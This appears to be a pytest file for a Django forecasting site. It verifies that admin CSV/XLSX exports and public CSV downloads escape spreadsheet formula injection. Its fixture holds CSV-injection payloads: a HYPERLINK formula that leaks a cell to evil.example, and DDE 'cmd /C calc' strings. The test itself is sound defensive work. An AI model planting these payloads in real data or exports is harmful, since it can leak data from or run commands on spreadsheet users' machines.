"""No download makes a spreadsheet run a formula: the admin's CSV and XLSX exports and the public CSVs.

Every text a user typed may start with =, +, - or @ (or a tab or carriage return before one); each
such cell is written as text with a leading apostrophe. XLSX cells are never formulas.
"""

import csv
import io

import openpyxl
import pytest
from django.contrib import admin

from forecasts import services
from forecasts.constants import Outcome
from forecasts.models import Claim, Question
from sources.models import Expert, Source
from tests.test_forecasts.factories import ClaimFactory, QuestionFactory, default_scale
from tests.test_sources.factories import ExpertFactory, SourceFactory

pytestmark = pytest.mark.django_db

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
EVIL = {
    "expert name": '=HYPERLINK("http://evil.example/?leak="&A2,"Open")',
    "affiliation": "\t+1+cmd|' /C calc'!A0",
    "bio": "@SUM(1+1)*cmd|' /C calc'!A0",
    "source title": "=1+1",
    "publisher": "-2+3+cmd|' /C calc'!A0",
    "question title": '=HYPERLINK("http://evil.example","Will it?")',
    "criteria": "@SUM(A1)",
    "quote": "\t=1+1",
    "statement": "\r=1+1",
    "hedge": "-likely",
}


@pytest.fixture
def evil_records():
    """One expert, source, question and claim whose text fields start with formula triggers."""
    default_scale(likely=0.675)
    expert = ExpertFactory(name=EVIL["expert name"], slug="evil", affiliation=EVIL["affiliation"], bio=EVIL["bio"])
    source = SourceFactory(title=EVIL["source title"], publisher=EVIL["publisher"])
    question = QuestionFactory(title=EVIL["question title"], resolution_criteria=EVIL["criteria"])
    ClaimFactory(
        expert=expert, source=source, question=question,
        quote=EVIL["quote"], statement=EVIL["statement"], hedge=EVIL["hedge"], probability=0.04187499999999999,
    )
    services.resolve_question(question=question, outcome=Outcome.NO)
    return expert


def _export(client, model, extension):
    """The admin's export of every row of the model's list, as the export form posts it."""
    model_admin = admin.site._registry[model]
    resource = model_admin.resource_classes[0]
    fields = {f"{resource.__name__.lower()}_{name}": "on" for name in resource().get_export_order()}
    extensions = [file_format().get_extension() for file_format in model_admin.get_export_formats()]
    data = {"format": extensions.index(extension), "resource": 0, **fields}
    response = client.post(f"/admin/{model._meta.app_label}/{model._meta.model_name}/export/", data)
    assert response.status_code == 200 and "attachment" in response["Content-Disposition"], response.content[:500]
    return response.content


def _csv_cells(content):
    return [cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for cell in row]


def _is_number(text):
    try:
        float(text)
    except ValueError:
        return False
    return True


def _assert_no_formula_text(cells):
    dangerous = [cell for cell in cells if isinstance(cell, str) and cell.startswith(TRIGGERS) and not _is_number(cell)]
    assert dangerous == []


MODELS = [Expert, Source, Question, Claim]


@pytest.mark.parametrize("model", MODELS, ids=lambda model: model.__name__)
def test_an_admin_csv_export_writes_formula_text_as_plain_text(client, analyst, evil_records, model):
    client.force_login(analyst)

    cells = _csv_cells(_export(client, model, "csv"))

    _assert_no_formula_text(cells)
    escaped = [cell for cell in cells if cell.startswith("'")]
    assert escaped and all(cell[1:] in EVIL.values() for cell in escaped)


@pytest.mark.parametrize("model", MODELS, ids=lambda model: model.__name__)
def test_an_admin_xlsx_export_has_no_formulas(client, analyst, evil_records, model):
    client.force_login(analyst)

    sheet = openpyxl.load_workbook(io.BytesIO(_export(client, model, "xlsx"))).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]

    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    _assert_no_formula_text([cell.value for cell in cells])
    escaped = [cell.value for cell in cells if isinstance(cell.value, str) and cell.value.startswith("'")]
    # Depending on how the writer encodes it, XML may read a carriage return back as a newline.
    stored = {*EVIL.values(), *(text.replace("\r", "\n") for text in EVIL.values())}
    assert escaped and all(value[1:] in stored for value in escaped)


def test_the_claims_export_names_every_escaped_field(client, analyst, evil_records):
    client.force_login(analyst)

    rows = list(csv.DictReader(io.StringIO(_export(client, Claim, "csv").decode("utf-8-sig"))))

    assert [(row["quote"], row["statement"], row["hedge"]) for row in rows] == [
        ("'\t=1+1", "'\r=1+1", "'-likely"),
    ]


def test_the_public_leaderboard_csv_writes_formula_text_as_plain_text(client, evil_records):
    rows = list(csv.DictReader(io.StringIO(client.get("/leaderboard.csv").content.decode())))

    assert [(row["expert"], row["affiliation"]) for row in rows] == [("'" + EVIL["expert name"], "'" + EVIL["affiliation"])]
    _assert_no_formula_text([cell for row in rows for cell in row.values()])
    assert float(rows[0]["log_score"]) < 0  # numbers keep their sign


def test_the_public_track_record_csv_writes_formula_text_as_plain_text(client, evil_records):
    rows = list(csv.DictReader(io.StringIO(client.get("/experts/evil/claims.csv").content.decode())))

    assert [(row["question"], row["source"], row["quote"], row["hedge"]) for row in rows] == [
        ("'" + EVIL["question title"], "'" + EVIL["source title"], "'\t=1+1", "'-likely"),
    ]
    _assert_no_formula_text([cell for row in rows for cell in row.values()])
